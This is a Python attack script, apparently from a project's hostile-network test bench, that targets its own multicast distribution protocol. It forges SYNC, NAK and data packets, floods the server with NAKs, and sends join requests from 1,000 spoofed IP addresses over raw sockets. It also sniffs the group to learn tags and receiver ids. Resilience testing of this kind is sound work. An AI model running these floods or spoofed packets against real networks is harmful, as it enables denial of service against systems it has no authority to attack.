#!/usr/bin/env python3
"""An attacker on the LAN, for benches/hostile.sh: one attack until killed.

  attack.py MODE GROUP:PORT SERVER:PORT [RATE]

MODE is one of:
  syncs      forged SYNCs on the group (GRTT 2 s, a crowd, a fake queue; no valid signature)
  naks       forged NAKs on the group (for real units, suppressing receivers' own) and to the
             server (no session MAC)
  data       forged data packets on the group (real tag and ids, random payload)
  garbage    random datagrams to the group and the server's control port
  nakflood   8,192-unit NAKs to the server's control port, as fast as RATE allows
  joinflood  join requests from 1,000 spoofed source addresses (raw socket), padded as a
             real first request is, so the server may answer each with a Retry

The archive tag, loop length and a real receiver id are learnt by listening on the group (as
anyone on the LAN can). RATE: datagrams per second (default 2000). Standard library only.
"""
import os
import random
import socket
import struct
import sys
import time

VERSION_DATA = 2
VERSION_CONTROL = 6
NAK_KIND = 0x80


def listen(group, port, need_nak=False, limit=10.0):
    """Tag, a loop length hint and (optionally) a receiver id heard on the group."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", port))
    mreq = struct.pack("4s4s", socket.inet_aton(group), socket.inet_aton("0.0.0.0"))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    s.settimeout(0.5)
    tag, loop, rid = None, 1000, None
    versions = set()
    end = time.time() + limit
    while time.time() < end:
        try:
            b = s.recv(65536)
        except socket.timeout:
            continue
        if b:
            versions.add(b[0])
        if len(b) >= 24 and b[0] == VERSION_DATA and b[1] == 0 and tag is None:
            tag = b[4:12]
            if len(b) >= 24 + 8:
                loop = max(1, struct.unpack_from("<Q", b, 24)[0])
        if len(b) >= 22 and b[0] == VERSION_DATA and b[1] == NAK_KIND:
            rid = struct.unpack_from("<Q", b, 12)[0]
            tag = tag or b[4:12]
        if tag is not None and (rid is not None or not need_nak):
            break
    s.close()
    if tag is None:
        sys.exit("attack.py: nothing usable heard on the group (versions heard: %s; this "
                 "script speaks %d)" % (sorted(versions), VERSION_DATA))
    return tag, loop, rid if rid is not None else random.getrandbits(64)


def data_header(kind, tag, index, flags=0):
    return struct.pack("<BBH8sQI", VERSION_DATA, kind, flags, tag, index, 0)


def nak(tag, rid, ranges):
    b = struct.pack("<BBH8sQH", VERSION_DATA, NAK_KIND, 0, tag, rid, len(ranges))
    for first, n in ranges:
        b += struct.pack("<QI", first, n)
    return b


def control_join(rid, title):
    """A join (control version 4) without a token, padded to 48 bytes like a real first request."""
    t = title.encode()
    b = struct.pack("<BBBQI", VERSION_CONTROL, 2, 2, rid, 1) + struct.pack("<H", len(t)) + t
    pad = max(0, 48 - len(b) - 2)
    return b + struct.pack("<H", pad) + bytes(pad)


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def spoofed(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main():
    mode, g, srv = sys.argv[1], sys.argv[2], sys.argv[3]
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 2000.0
    group, gport = g.rsplit(":", 1)
    gport = int(gport)
    server, sport = srv.rsplit(":", 1)
    sport = int(sport)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    raw = None
    if mode == "joinflood":
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        tag = loop = rid = None
    else:
        tag, loop, rid = listen(group, gport, need_nak=(mode == "naks"))
    net = server.rsplit(".", 1)[0]
    print("attack.py: attacking (%s)" % mode, flush=True)
    sent, i, t0 = 0, 0, time.time()
    while True:
        i += 1
        if mode == "syncs":
            info = struct.pack("<QQIIQ", loop, 1000, 2_000_000, 100_000, (1 << 62) + i)
            dgs = [((group, gport), data_header(0, tag, 0) + info + os.urandom(64))]
        elif mode == "naks":
            first = random.randrange(max(1, loop))
            dgs = [((group, gport), nak(tag, rid, [(first, 64)])),
                   ((server, sport), nak(tag, rid, [(first, 64)]))]
        elif mode == "data":
            idx = random.randrange(max(1, loop))
            dgs = [((group, gport), data_header(2, tag, idx) + os.urandom(1280))]
        elif mode == "garbage":
            dgs = [((group, gport), os.urandom(random.randrange(1, 1400))),
                   ((server, sport), os.urandom(random.randrange(1, 1400)))]
        elif mode == "nakflood":
            dgs = [((server, sport), nak(tag, random.getrandbits(64), [(0, 8192)]))]
        elif mode == "joinflood":
            src = "%s.%d" % (net, 100 + (i % 150))  # 150 addresses x ports: 1,000 sources
            p = spoofed(src, server, 20000 + (i % 7), sport, control_join(i, "hostile"))
            raw.sendto(p, (server, 0))
            dgs = []
            sent += 1
        else:
            sys.exit("attack.py: unknown mode " + mode)
        for to, b in dgs:
            try:
                out.sendto(b, to)
                sent += 1
            except OSError:
                pass
        # Pace to RATE datagrams a second.
        ahead = sent / rate - (time.time() - t0)
        if ahead > 0:
            time.sleep(ahead)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        pass
